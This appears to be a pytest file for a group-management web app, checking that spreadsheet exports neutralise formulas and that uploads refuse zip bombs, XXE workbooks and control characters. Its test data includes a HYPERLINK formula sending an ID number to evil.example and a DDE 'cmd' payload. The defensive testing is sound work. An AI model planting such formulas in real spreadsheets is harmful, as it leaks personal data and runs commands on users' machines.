"""Hostile files and stored text: formulas never run from an export, zip bombs and broken or XXE workbooks are
refused as the import page's error, control characters are refused by forms and never break an export."""
from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from openpyxl import load_workbook
from wtforms import StringField, TextAreaField

from kube.core.forms import KubeForm
from kube.core.spreadsheet import csv_cell, safe_text, unescaped_text, xlsx_cell
from kube.groups import importer
from kube.groups.models import Group, Member
from tests.test_import_export import member_count, read_csv as csv_rows
from tests.workbooks import (
    WORKBOOK, billion_laughs, empty_rows_bomb, last_row_only, long_string_bomb, sheet_xml, shared_strings, xlsx, xxe_sheet,
)

FORMULA = '=HYPERLINK("http://evil.example/?nik="&M2,"Lihat peta")'
#: What the import page says about a workbook it cannot read.
UNREADABLE = "Berkas XLSX tidak dapat dibaca"


def upload(client, data: bytes, name: str = "anggota.xlsx"):
    """POST a file to the import page (how long the refusals take is bench/imports.py's business)."""
    return client.post("/groups/import", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


@pytest.fixture
def workbook_opens(monkeypatch) -> list:
    """Counts the uploads openpyxl is asked to open, and opens none: a bomb must be refused from the zip's
    directory alone, before any XML is read."""
    opens = []

    def parse(*args, **kwargs):
        opens.append(args)
        raise RuntimeError("the test forbids parsing")
    monkeypatch.setattr(openpyxl, "load_workbook", parse)
    return opens


def sheet_rows(data: bytes, title: str | None = None) -> list[tuple]:
    """The rows of cells of a sheet of an XLSX (formulas kept as formulas, as a spreadsheet would see them)."""
    workbook = load_workbook(io.BytesIO(data))
    return list((workbook[title] if title else workbook.active).iter_rows())


def sheet_cells(data: bytes, title: str | None = None) -> list:
    """Every cell of a sheet of an XLSX."""
    return [cell for row in sheet_rows(data, title) for cell in row]




def test_a_hand_built_workbook_is_read(app):
    row = '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="C2" t="inlineStr"><is><t>Ujang</t></is></c></row>'
    table = importer.read_table(xlsx(sheet_xml(row), strings=shared_strings("3673041506850001")), "a.xlsx")
    assert table.header[:4] == ["NIK", "No KK", "Nama", "Kode Kelompok"]
    assert table.rows == [(2, ["3673041506850001", None, "Ujang"])]


# -- 3. formulas in exports ----------------------------------------------------------------------

@pytest.mark.parametrize("payload", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
def test_a_leaders_formula_in_the_group_address_is_text_in_the_admins_exports(client, login, db, users, group,
                                                                               leader, bearer, payload):
    response = client.patch(f"/api/v1/groups/{group.id}", json={"address": payload}, headers=bearer(leader))
    assert response.status_code == 200, response.get_json()
    login(users["admin"])

    workbook = client.get("/groups/export.xlsx")
    assert workbook.status_code == 200
    cells = sheet_cells(workbook.data)
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    [address] = [cell for cell in cells if isinstance(cell.value, str) and payload.strip() in cell.value]
    assert (address.value, address.data_type) == ("'" + payload, "s")
    with zipfile.ZipFile(io.BytesIO(workbook.data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    # Real numbers and dates stay numbers and dates.
    header, line = sheet_rows(workbook.data)
    row = {name.value: cell for name, cell in zip(header, line)}
    assert row["Jumlah Anggota"].value == 5 and row["Jumlah Anggota"].data_type == "n"
    assert isinstance(row["Tanggal Terbentuk"].value, datetime) and row["Tanggal Terbentuk"].is_date

    [header, line] = csv_rows(client.get("/groups/export.csv"))
    assert dict(zip(header, line))["Alamat"] == "'" + payload
    assert dict(zip(header, line))["Jumlah Anggota"] == "5"


def test_a_leaders_formula_in_a_members_address_is_text_in_the_member_export(client, login, db, users, group,
                                                                             leader, bearer):
    member = group.current_members[1]
    response = client.patch(f"/api/v1/members/{member.id}", json={"address": "@SUM(A1:A9)*0+" + FORMULA[1:]},
                            headers=bearer(leader))
    assert response.status_code == 200, response.get_json()
    login(users["admin"])
    cells = sheet_cells(client.get("/members/export.xlsx").data)
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    [address] = [cell for cell in cells if isinstance(cell.value, str) and "SUM" in cell.value]
    assert address.value.startswith("'@SUM") and address.data_type == "s"
    rows = csv_rows(client.get("/members/export.csv"))
    assert any(value.startswith("'@SUM") for value in rows[[row[4] for row in rows].index(member.name)])


def test_the_one_cell_writer_neutralises_every_formula_start_and_keeps_numbers_and_dates(app):
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_text(start + "1+1") == "'" + start + "1+1"
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
        assert unescaped_text(safe_text(start + "1+1")) == start + "1+1"
    assert safe_text("\n=1+1") == "'\n=1+1"
    assert safe_text("Kp. Tinggar RT 01/02") == "Kp. Tinggar RT 01/02" and safe_text("'halo") == "'halo"
    assert unescaped_text("'halo") == "'halo"
    assert (csv_cell(-5), csv_cell(2.5), csv_cell(None), csv_cell(date(2024, 1, 10))) == ("-5", "2.5", "", "2024-01-10")
    sheet = openpyxl.Workbook(write_only=True).create_sheet()
    assert xlsx_cell(sheet, "#N/A").data_type == "s"  # not an error value
    assert xlsx_cell(sheet, -5) == -5 and xlsx_cell(sheet, "=1+1") == "'=1+1" and xlsx_cell(sheet, "") is None
    assert xlsx_cell(sheet, date(2024, 1, 10)).number_format == "DD-MM-YYYY"
    nik = xlsx_cell(sheet, "3673041506850001", text=True)
    assert (nik.value, nik.data_type, nik.number_format) == ("3673041506850001", "s", "@")


def test_the_import_template_holds_no_formula(client, login, officer):
    login(officer)
    data = client.get("/groups/import/template.xlsx").data
    for title in ("Anggota", "Contoh", "Petunjuk", "Kode Kelurahan"):
        cells = [cell for cell in sheet_cells(data, title) if cell.value is not None]
        assert cells and all(cell.data_type in ("s", "n") for cell in cells), title


def test_an_exported_cell_imports_as_it_was_written(db, officer, group):
    """The `'` an export puts before `+62...` is not stored when the corrected list comes back."""
    header = importer.COLUMN_LABELS
    table = importer._table(iter([(1, [header["nik"], header["kk"], header["name"], header["group"],
                                       header["address"]]),
                                  (2, ["1", "2", "Ujang", group.code, "'=Kp. Baru"])]), "x.csv", 10)
    columns, labels, _errors = importer.map_columns(table.header)
    assert importer._text(table.rows[0][1][columns["address"]]) == "=Kp. Baru"


# -- 5. decompression bombs -----------------------------------------------------------------------

@pytest.mark.parametrize("bomb", [empty_rows_bomb, long_string_bomb], ids=["3 million empty rows", "50 MB string"])
def test_a_zip_bomb_is_refused_before_parsing(client, login, db, officer, group, workbook_opens, bomb):
    """The two uploads of the review: under 200 KB each, tens of megabytes once unpacked."""
    upload_bytes = bomb()
    assert len(upload_bytes) < 200_000
    login(officer)
    response = upload(client, upload_bytes)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Tidak ada yang diimpor" in page and "setelah dibuka" in page
    assert member_count(db) == 5 and workbook_opens == []


def test_every_row_counts_toward_the_limit_blank_ones_too(client, login, db, officer, group, monkeypatch):
    monkeypatch.setattr(importer, "WEB_MAX_ROWS", 5)
    login(officer)
    # One row at the bottom of the sheet: the rows above it are read as blank rows, and they count.
    response = upload(client, last_row_only())
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "lebih dari 5 baris" in page and "baris kosong ikut dihitung" in page
    blank_csv = ("NIK,No KK,Nama,Kode Kelompok\n" + ",,,\n" * 6).encode()
    assert "baris kosong ikut dihitung" in upload(client, blank_csv, "anggota.csv").get_data(as_text=True)
    assert member_count(db) == 5


def test_a_zip_of_too_many_parts_is_refused(client, login, db, officer, group):
    many = xlsx(extra={f"xl/media/image{n}.png": b"" for n in range(importer.MAX_XLSX_ENTRIES)})
    login(officer)
    response = upload(client, many)
    assert "terlalu banyak bagian" in response.get_data(as_text=True)


# -- 8. malformed and hostile workbooks --------------------------------------------------------------



@pytest.mark.parametrize("broken", ["sheet", "workbook", "xxe", "laughs", "not xml", "no sheet"])
def test_malformed_and_hostile_workbooks_get_the_import_error(client, login, db, officer, group, tmp_path, broken):
    secret = tmp_path / "secret.txt"
    secret.write_text("RAHASIA-XXE-7731")
    files = {
        "sheet": xlsx(sheet_xml('<row r="2"><c r="C2" t="inlineStr"><is><t>Ujang</t></c></row>')),
        "workbook": xlsx(workbook=WORKBOOK.replace("</sheets>", "")),
        "xxe": xlsx(xxe_sheet(secret)),
        "laughs": xlsx(strings=billion_laughs()),
        "not xml": xlsx(sheet=b"\x00\xff PK not xml at all"),
        "no sheet": xlsx(workbook=WORKBOOK.replace('<sheet name="Anggota" sheetId="1" r:id="rId1"/>', "")),
    }
    login(officer)
    response = upload(client, files[broken])
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Tidak ada yang diimpor" in page and UNREADABLE in page
    assert "RAHASIA-XXE" not in page
    assert member_count(db) == 5


def test_openpyxl_parses_uploads_with_defusedxml():
    assert openpyxl.DEFUSEDXML is True


# -- 6. control characters ------------------------------------------------------------------------

def test_html_forms_refuse_control_characters(client, login, db, officer, group, leader):
    login(officer)
    form = {"name": "Kube\x00Maju", "business_type": group.business_type, "kelurahan_code": group.kelurahan_code,
            "address": "Kp. Tinggar", "formed_on": "2024-01-10", "officer_id": str(officer.id)}
    response = client.post(f"/groups/{group.id}/edit", data=form)
    assert response.status_code == 200 and "karakter kendali" in response.get_data(as_text=True)
    db.session.expire_all()
    assert "\x00" not in db.session.get(Group, group.id).name

    leader_client = login(leader, test_client=client.application.test_client())
    member = group.current_members[1]
    for address in ("Kp.\x0bTinggar RT 01", "\x0b"):  # a lone vertical tab looks blank to Optional()
        response = leader_client.post(f"/members/{member.id}/edit", data={"address": address,
                                                                          "household_size": "4"})
        assert response.status_code == 200 and "karakter kendali" in response.get_data(as_text=True), address
    db.session.expire_all()
    assert "\x0b" not in (db.session.get(Member, member.id).address or "")


def test_a_text_area_takes_line_breaks_and_tabs_but_no_other_control_character(app):
    class NoteForm(KubeForm):
        title = StringField()
        note = TextAreaField()

    def errors(title: str, note: str) -> dict:
        with app.test_request_context(method="POST", data={"title": title, "note": note}):
            form = NoteForm()
            form.validate()
            return form.errors

    assert errors("Judul", "baris 1\r\nbaris 2\tkolom") == {}
    assert set(errors("Judul\tdua", "catatan\x00")) == {"title", "note"}


def test_an_upload_does_not_bring_in_control_characters(client, login, db, officer, group):
    login(officer)
    data = ("NIK,No KK,Nama,Kode Kelompok,Alamat\n"
            f"3673041506850001,3673041003150001,Ujang,{group.code},\"Kp.\x0bTinggar\"\n").encode()
    page = upload(client, data, "anggota.csv").get_data(as_text=True)
    assert "Tidak ada yang diimpor" in page and "karakter kendali" in page
    assert member_count(db) == 5


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exports_never_fail_on_stored_control_characters(client, login, db, users, group, fmt):
    """Text stored before the forms refused it (PostgreSQL takes every control character but NUL)."""
    group.name = "Kube\x01Maju"
    group.current_members[1].address = "Kp.\x0bTinggar\x1f RT 01"
    db.session.commit()
    login(users["viewer"])
    for kind in ("groups", "members"):
        response = client.get(f"/{kind}/export.{fmt}")
        assert response.status_code == 200, kind
        if fmt == "xlsx":
            values = {cell.value for cell in sheet_cells(response.data)}
        else:
            values = {value for row in csv_rows(response) for value in row}
        assert "Kube Maju" in values
        if kind == "members":
            assert "Kp. Tinggar  RT 01" in values
